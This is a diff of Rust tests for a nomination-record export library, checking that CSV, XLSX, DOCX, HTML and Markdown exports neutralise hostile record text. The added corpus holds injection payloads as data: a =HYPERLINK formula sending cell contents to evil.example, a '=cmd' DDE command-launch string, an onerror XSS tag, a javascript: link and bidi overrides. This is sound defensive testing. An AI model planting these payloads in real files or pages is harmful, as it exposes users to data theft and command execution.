@@ -29,6 +29,10 @@ fn snapshot() -> Snapshot {
             workplace: Some("<i>w</i>".into()),
             post: None,
             front_line: true,
+            gender: None,
+            born: None,
+            political_status: None,
+            education: None,
         },
         brand: None,
         registered: day,
@@ -160,4 +164,210 @@ fn markdown_escapes_pipes_and_neutralises_control_characters() {
     )
     .unwrap();
     assert!(form.contains("1\\|2"));
+}
+
+// ---- issue 17: a hostile-text corpus through every document and format ----
+
+/// Formula prefixes (the review's repro), HTML, Markdown and bidi overrides.
+const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"點擊\")";
+const CONTACT: &str = "@SUM(1+1)";
+const DEEDS: &str = "-2+3 <img src=x onerror=alert(1)> | **bold** [x](javascript:alert(1)) \u{202e}txet desrever\u{202c} +1";
+const BRAND: &str = "=2*3";
+
+fn hostile() -> Snapshot {
+    let mut s = snapshot();
+    let r = s.records.get_mut("2017-star-099").unwrap();
+    r.nomination.nominee.name = FORMULA.into();
+    r.nomination.nominee.workplace = Some("+1+1".into());
+    r.nomination.nominee.gender = Some("\tTAB".into());
+    r.nomination.contact.name = CONTACT.into();
+    r.nomination.contact.phone = "-洪緒鎮\r=1".into();
+    r.nomination.deeds = DEEDS.into();
+    r.nomination.brand = Some(BRAND.into());
+    r.votes = Some(pingxuan::model::Votes {
+        satisfied: 1,
+        basically_satisfied: 0,
+        dissatisfied: 0,
+        recorded_by: "=cmd|' /C calc'!A0".into(),
+        date: NaiveDate::from_ymd_opt(2017, 11, 21).unwrap(),
+    });
+    r.objections.insert(
+        "20171205-1".into(),
+        pingxuan::model::Objection {
+            filed: chrono::DateTime::parse_from_rfc3339("2017-12-05T09:00:00+08:00").unwrap(),
+            source: "@letter".into(),
+            text: DEEDS.into(),
+            fraud: false,
+            recorded_by: "liuyang".into(),
+            status: pingxuan::model::ObjectionStatus::Open,
+            resolution: None,
+        },
+    );
+    s
+}
+
+fn hostile_log() -> pingxuan::export::AuditLog {
+    pingxuan::export::AuditLog {
+        verified: true,
+        rows: vec![pingxuan::export::AuditRow {
+            commit: "0123456789abcdef0123456789abcdef01234567".into(),
+            time: chrono::DateTime::parse_from_rfc3339("2017-06-15T09:00:00+08:00").unwrap(),
+            actor: "=evil".into(),
+            action: "+x".into(),
+            record: Some("2017-star-099".into()),
+            summary: DEEDS.into(),
+            signature: "@bad".into(),
+            signature_ok: false,
+            violations: vec![FORMULA.into()],
+        }],
+    }
+}
+
+#[test]
+fn hostile_text_goes_through_every_document_and_format_as_text() {
+    use pingxuan::export::Kind;
+    let s = hostile();
+    let log = hostile_log();
+    let opts = Options::new(NaiveDate::from_ymd_opt(2017, 12, 31).unwrap(), Lang::Zh);
+    for kind in Kind::ALL {
+        let what = match kind {
+            Kind::Notice => What::Notice,
+            Kind::Decision => What::Decision,
+            Kind::Final => What::Final,
+            Kind::Form => What::Form {
+                id: "2017-star-099",
+            },
+            Kind::Registration => What::Registration,
+            Kind::ScoreSheet => What::ScoreSheet,
+            Kind::Ballot => What::Ballot,
+            Kind::Votes => What::Votes,
+            Kind::Letter => What::Letter,
+            Kind::Opinions => What::Opinions,
+            Kind::Objections => What::Objections,
+            Kind::Scores => What::Scores,
+            Kind::Audit => What::Audit(&log),
+            Kind::Json => What::Json,
+        };
+        for &format in kind.formats() {
+            let out = render(&s, &what, format, &opts)
+                .unwrap_or_else(|e| panic!("{} {format:?}: {e}", kind.name()));
+            let what_s = format!("{} as {format:?}", kind.name());
+            match format {
+                Format::Csv => {
+                    let mut r = csv::ReaderBuilder::new()
+                        .has_headers(false)
+                        .from_reader(&out[3..]);
+                    for rec in r.records() {
+                        for cell in rec.unwrap().iter() {
+                            let first = cell.chars().next();
+                            assert!(
+                                !(matches!(first, Some('=' | '+' | '@' | '\t' | '\r'))
+                                    || first == Some('-') && cell.parse::<f64>().is_err()),
+                                "{what_s}: formula-like cell {cell:?}"
+                            );
+                            assert!(!cell.contains('\u{202e}'), "{what_s}: bidi override");
+                        }
+                    }
+                }
+                Format::Xlsx => {
+                    use calamine::Reader;
+                    let mut wb: calamine::Xlsx<_> =
+                        calamine::Xlsx::new(std::io::Cursor::new(out.clone())).unwrap();
+                    for name in wb.sheet_names().to_vec() {
+                        let f = wb.worksheet_formula(&name).unwrap();
+                        assert!(f.used_cells().all(|(_, _, f)| f.is_empty()), "{what_s}");
+                        let range = wb.worksheet_range(&name).unwrap();
+                        for (_, _, c) in range.used_cells() {
+                            if let calamine::Data::String(t) = c {
+                                assert!(!t.contains('\u{202e}'), "{what_s}: bidi override");
+                            }
+                        }
+                        // the hostile text is there, as a string
+                        let _ = range;
+                    }
+                }
+                Format::Docx => {
+                    use std::io::Read;
+                    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(out.clone())).unwrap();
+                    let mut xml = String::new();
+                    zip.by_name("word/document.xml")
+                        .unwrap()
+                        .read_to_string(&mut xml)
+                        .unwrap();
+                    let doc = roxmltree::Document::parse(&xml)
+                        .unwrap_or_else(|e| panic!("{what_s}: {e}"));
+                    let text: String = doc
+                        .descendants()
+                        .filter(|n| n.tag_name().name() == "t")
+                        .filter_map(|n| n.text())
+                        .collect();
+                    assert!(!text.contains('\u{202e}'), "{what_s}: bidi override");
+                    assert!(!xml.contains("<img"), "{what_s}: markup escaped");
+                }
+                Format::Html => {
+                    let page = String::from_utf8(out).unwrap();
+                    let doc = Html::parse_document(&page);
+                    assert!(doc.errors.is_empty(), "{what_s}: {:?}", doc.errors);
+                    for tag in ["script", "img", "b", "a"] {
+                        assert!(
+                            doc.select(&Selector::parse(tag).unwrap()).next().is_none(),
+                            "{what_s}: no <{tag}> from record text"
+                        );
+                    }
+                    assert!(!page.contains('\u{202e}'), "{what_s}: bidi override");
+                }
+                Format::Markdown => {
+                    let md = String::from_utf8(out).unwrap();
+                    // markup characters from records come backslash-escaped
+                    let bare = |pat: &str| {
+                        md.match_indices(pat)
+                            .any(|(i, _)| i == 0 || md.as_bytes()[i - 1] != b'\\')
+                    };
+                    assert!(!bare("<img"), "{what_s}: {md}");
+                    assert!(!bare("](javascript"), "{what_s}");
+                    assert!(!bare("**bold"), "{what_s}");
+                    assert!(!md.contains('\u{202e}'), "{what_s}: bidi override");
+                }
+                Format::Json => {
+                    serde_json::from_slice::<serde_json::Value>(&out)
+                        .unwrap_or_else(|e| panic!("{what_s}: {e}"));
+                }
+            }
+        }
+    }
+}
+
+#[test]
+fn the_reviews_formula_repro_is_neutralised_in_csv_and_a_string_in_xlsx() {
+    // the review's blocker B1: =HYPERLINK, @SUM, -…, =2*3 written verbatim before
+    let s = hostile();
+    let opts = Options::new(NaiveDate::from_ymd_opt(2017, 12, 31).unwrap(), Lang::Zh);
+    let csv_out = render(
+        &s,
+        &What::Form {
+            id: "2017-star-099",
+        },
+        Format::Csv,
+        &opts,
+    )
+    .unwrap();
+    let text = String::from_utf8(csv_out[3..].to_vec()).unwrap();
+    assert!(
+        text.contains("\"'=HYPERLINK(\"\"http://evil.example/"),
+        "{text}"
+    );
+    assert!(text.contains("'@SUM(1+1)"), "{text}");
+    assert!(text.contains("'-洪緒鎮"), "{text}");
+    assert!(text.contains("\r\n"), "CRLF");
+    let x = render(&s, &What::Notice, Format::Xlsx, &opts).unwrap();
+    use calamine::Reader;
+    let mut wb: calamine::Xlsx<_> = calamine::Xlsx::new(std::io::Cursor::new(x)).unwrap();
+    let name = wb.sheet_names()[0].clone();
+    let range = wb.worksheet_range(&name).unwrap();
+    assert!(range
+        .used_cells()
+        .any(|(_, _, c)| matches!(c, calamine::Data::String(t) if t.starts_with(FORMULA))));
+    assert!(range
+        .used_cells()
+        .any(|(_, _, c)| *c == calamine::Data::String(BRAND.into())));
 }
